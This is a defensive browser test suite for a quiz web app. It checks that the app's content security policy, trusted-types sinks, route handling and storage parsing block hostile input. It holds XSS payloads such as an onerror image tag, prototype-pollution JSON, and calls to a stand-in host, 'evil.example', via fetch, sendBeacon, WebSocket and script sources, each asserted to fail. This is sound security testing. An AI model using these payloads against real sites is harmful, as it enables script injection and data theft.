// What SECURITY.md promises: hostile words are words, an address runs and asks for nothing, markup cannot be made, and
// what is loaded is what was built.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readFile, writeFile } from "node:fs/promises";
import { after, test } from "node:test";
import { answerOne, go, open, ready } from "./browser.mjs";
import { damage, fileNamed, removeVersions, version } from "./versions.mjs";
import { PAYLOADS } from "./payloads.mjs";

const ROUTES = ["#/", "#/study", "#/quiz", "#/banks", "#/banks/russia-china", "#/cards", "#/learn/flashcards/russia-china", "#/settings", "#/data", "#/help", "#/about", "#/nowhere"];

after(removeVersions);

async function within(run, options) {
  const app = await open(options);
  await app.context.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
  });
  app.dialogs = [];
  app.context.on("page", (page) => page.on("dialog", (dialog) => { app.dialogs.push(dialog.message()); dialog.dismiss(); }));
  try {
    await run(app);
  } finally {
    await app.close();
  }
}

/** Nothing ran, nothing was asked of a stranger, and the policy had nothing to stop. */
async function nothingRan(app, page) {
  assert.equal(await page.evaluate(() => window.P), undefined);
  assert.deepEqual(await page.evaluate(() => window.violations), []);
  assert.deepEqual(app.dialogs, []);
  assert.deepEqual(app.trouble, []);
}

test("the policy and the tripwire stay silent on every page", { timeout: 60_000 }, () => within(async (app) => {
  const page = await app.page();
  for (const route of ROUTES) {
    await go(page, route);
    await page.waitForFunction(() => document.querySelector("main#main h1")?.checkVisibility());
  }
  await go(page, "#/study");
  await answerOne(page);
  await nothingRan(app, page);
}));

test("a raw sink throws, whatever is written into it, and so does every other way to run words", () => within(async (app) => {
  const page = await app.page();
  const outcomes = await page.evaluate(async (payloads) => {
    // What the test itself says is exempt from the policy; what runs from a timer is not.
    await new Promise((resolve) => setTimeout(resolve));
    const tries = {
      innerHTML: (words) => { document.createElement("div").innerHTML = words; },
      outerHTML: (words) => { document.body.appendChild(document.createElement("div")).outerHTML = words; },
      insertAdjacentHTML: (words) => document.body.insertAdjacentHTML("beforeend", words),
      write: (words) => document.write(words),
      parseFromString: (words) => new DOMParser().parseFromString(words, "text/html"),
      fragment: (words) => document.createRange().createContextualFragment(words),
      srcdoc: (words) => { document.createElement("iframe").srcdoc = words; },
      eval: (words) => (0, eval)(words),
      function: (words) => new Function(words),
      timeout: (words) => setTimeout(words),
      script: (words) => { document.createElement("script").textContent = words; document.createElement("script").text = words; },
      scriptAddress: () => { document.createElement("script").src = "https://evil.example/x.js"; },
      worker: () => new Worker("https://evil.example/x.js"),
      serviceWorker: () => navigator.serviceWorker.register("https://evil.example/sw.js"),
    };
    const passed = [];
    for (const [name, attempt] of Object.entries(tries)) {
      for (const words of payloads) {
        try { await attempt(words); passed.push(`${name}: ${words}`); } catch { /* as it should */ }
      }
    }
    return passed;
  }, ["<b>harmless</b>", "window.P = 1", ...PAYLOADS]);
  assert.deepEqual(outcomes, []);
  assert.equal(await page.evaluate(() => window.P), undefined);
}));

test("the policy stops what needs no markup: strangers' files, inline handlers, javascript: links, other bases", () => within(async (app) => {
  const page = await app.page();
  await page.evaluate(async () => {
    await new Promise((resolve) => setTimeout(resolve));
    const put = (tag, fields) => {
      const element = Object.assign(document.createElement(tag), fields);
      document.body.append(element);
      return element;
    };
    const tries = [
      () => put("img", { src: "https://evil.example/seen.png" }),
      () => put("a", { href: "javascript:window.P=1" }).click(),
      () => put("base", { href: "https://evil.example/" }),
      () => put("style", { textContent: "body { background: url(https://evil.example/seen.png) }" }),
      () => put("p", {}).setAttribute("style", "background: url(https://evil.example/seen.png)"),
      () => put("form", { action: "https://evil.example/" }).submit(),
      () => put("iframe", { src: "https://evil.example/" }),
      () => put("object", { data: "https://evil.example/" }),
      () => put("button", {}).setAttribute("onclick", "window.P=1"),
      () => fetch("https://evil.example/"),
      () => import("data:text/javascript,window.P=1"),
      () => navigator.sendBeacon("https://evil.example/", "x"),
      () => new WebSocket("wss://evil.example/"),
    ];
    for (const attempt of tries) {
      try { await attempt(); } catch { /* stopped at once */ }
    }
  });
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.P), undefined);
  assert.ok(page.url().startsWith(app.server.url));
  assert.equal(await page.evaluate(() => document.baseURI.startsWith(location.origin)), true);
  const stopped = await page.evaluate(() => [...new Set(window.violations.map((line) => line.split(":")[0]))].sort());
  for (const directive of ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "require-trusted-types-for", "script-src-elem", "style-src-attr", "style-src-elem"]) {
    assert.ok(stopped.includes(directive), `${directive} in ${stopped}`);
  }
}));

test("a bank whose every word is an attack: shown as words on every page", { timeout: 180_000 }, () => within(async (app) => {
  // The fields of the packed bank that a person wrote, and only those: ids, numbers and structure stay.
  const FIELD = "\u001f";
  const spoilt = (text, fields) => text.split("\n").map((line, at) => {
    const parts = line.split(FIELD);
    for (const field of fields[parts[0]] ?? []) {
      if (parts[field]) parts[field] = `${PAYLOADS[(at + field) % PAYLOADS.length]} ${parts[field]}`;
    }
    return parts.join(FIELD);
  }).join("\n");
  app.server.dist = await version(async (folder) => {
    const banks = await fileNamed(folder, "banks-", ".txt");
    await writeFile(banks, spoilt(await readFile(banks, "utf8"), { B: [2, 3, 7, 8], S: [2], T: [2, 3], C: [2], F: [5], K: [4, 5] }));
    const details = await fileNamed(folder, "details-", ".txt");
    await writeFile(details, (await readFile(details, "utf8")).split("\n").map((line, at) => (line ? `${PAYLOADS[at % PAYLOADS.length]} ${line}` : line)).join("\n"));
  });
  const page = await app.page();
  for (const route of ROUTES) {
    await go(page, route);
    await page.waitForFunction(() => document.querySelector("main#main h1")?.checkVisibility());
  }
  await go(page, "#/banks/russia-china");
  await page.waitForSelector(".topic-list li");
  assert.match(await page.textContent("main"), /<img src=x onerror=window\.P=1>/);
  await go(page, "#/cards");
  await page.waitForSelector("#row-0");
  await go(page, "#/banks/russia-china/source/history");
  await page.waitForSelector(".source-fact");
  assert.match(await page.textContent("main"), /<img src=x onerror=window\.P=1>/);
  await go(page, "#/study");
  for (let i = 0; i < 12; i++) await answerOne(page);
  await go(page, "#/quiz");
  await page.click("text=Start the quiz");
  await page.waitForSelector("section.index #prompt");
  await page.waitForTimeout(300);
  assert.equal(await page.locator("main img, main script, main svg, main iframe, main input[onfocus], main base").count(), 0);
  await nothingRan(app, page);
}));

test("typed answers and searches are words too", { timeout: 60_000 }, () => within(async (app) => {
  const page = await app.page("#/banks/russia-china");
  const search = page.locator("input[type=search], input[type=text]").first();
  for (const words of PAYLOADS) {
    await search.fill(words);
    await page.waitForTimeout(20);
  }
  await nothingRan(app, page);
}));

test("an address never runs and never asks for anything, however it is made", { timeout: 120_000 }, () => within(async (app) => {
  const page = await app.page();
  await page.waitForSelector(".notice:has-text('on this device now')");
  // Whatever a page needs is here after each has been opened once.
  for (const route of [...ROUTES, "#/class", "#/drill/russia-china/x"]) {
    await go(page, route);
    await page.waitForFunction(() => document.querySelector("main#main h1")?.checkVisibility());
  }
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  const addresses = ["study", "quiz", "banks", "drill", "class", "progress", "settings", "import", ""].flatMap((page) =>
    PAYLOADS.flatMap((words) => [`#/${page}/${words}`, `#/${page}/${encodeURIComponent(words)}`]));
  addresses.push(`#/drill/${"A".repeat(2_000_000)}`, `#/drill/${"%F0%9F".repeat(5000)}`, "#/drill/AAAA/../../../x", "#//evil.example/", "#https://evil.example/", "#/%00%ff", `#/drill/${btoa("\u0000".repeat(3000))}`);
  for (const address of addresses) {
    await page.evaluate((hash) => { location.hash = hash; }, address);
    await page.waitForTimeout(5);
  }
  await go(page, "#/");
  await page.waitForFunction(() => document.querySelector("main#main h1")?.checkVisibility());
  assert.deepEqual(requests, []);
  await nothingRan(app, page);
}));

test("tampered storage: any value under any key of ours, and the app still starts and learns", { timeout: 180_000 }, () => within(async (app) => {
  const page = await app.page("#/study");
  await answerOne(page);
  await go(page, "#/settings");
  const keys = await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("entente")));
  assert.ok(keys.length > 0);
  const values = ["", "null", "[]", "{\"theme\":{\"a\":1},\"retention\":1e400,\"new_per_day\":-5}", "{\"__proto__\":{\"P\":1},\"retention\":\"<img src=x onerror=window.P=1>\"}", "[".repeat(100_000), "\u0000\uffff\u2028", ...PAYLOADS.slice(0, 3)];
  for (const value of values) {
    await page.evaluate(([keys, value]) => {
      for (const key of [...keys, "entente/x", "entente/00000000-00000000/r/settings/theme/000000000001-0000000000000001", "entente/00000000-00000000/s/0000000000000001/00000000"]) localStorage.setItem(key, value);
    }, [keys, value]);
    await page.reload();
    await ready(page);
    await go(page, "#/study");
    await answerOne(page);
  }
  assert.equal(await page.evaluate(() => window.P ?? {}.P), undefined);
  assert.deepEqual(await page.evaluate(() => window.violations), []);
  assert.deepEqual(app.trouble, []);
}));

test("inside another site's page it does not start", () => within(async (app) => {
  const host = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<!doctype html><iframe src="${app.server.url}#/settings" width=800 height=600></iframe>`);
  });
  await new Promise((resolve) => host.listen(0, "127.0.0.1", resolve));
  try {
    const page = await app.context.newPage();
    await page.goto(`http://127.0.0.1:${host.address().port}/`);
    const frame = page.frameLocator("iframe");
    await frame.locator("h1:has-text('cannot start')").waitFor();
    assert.match(await frame.locator("#start").textContent(), /in a tab by itself/);
    assert.equal(await frame.locator("button").count(), 0);
  } finally {
    host.closeAllConnections();
    host.close();
  }
}));

test("a start-up file that is not what was built does not run", { timeout: 60_000 }, () => within(async (app) => {
  for (const [start, end] of [["start-", ".js"], ["entente-", ".js"]]) {
    const folder = await version();
    app.server.dist = folder;
    await damage(await fileNamed(folder, start, end));
    const page = await app.context.newPage();
    const refused = page.waitForEvent("console", (message) => /integrity/.test(message.text()));
    await page.goto(app.server.url);
    await refused;
    assert.equal(await page.locator("main#main").count(), 0, start);
    await page.close();
  }
}));

test("nothing is kept anywhere but in this origin's own storage, and no cookie is set", () => within(async (app) => {
  const page = await app.page("#/study");
  await answerOne(page);
  assert.deepEqual(await app.context.cookies(), []);
  assert.ok(await page.evaluate(() => Object.keys(sessionStorage).every((key) => key.startsWith("entente"))), "where a session stands, for this tab");
  assert.ok(await page.evaluate(() => Object.keys(localStorage).every((key) => key.startsWith("entente"))));
}));
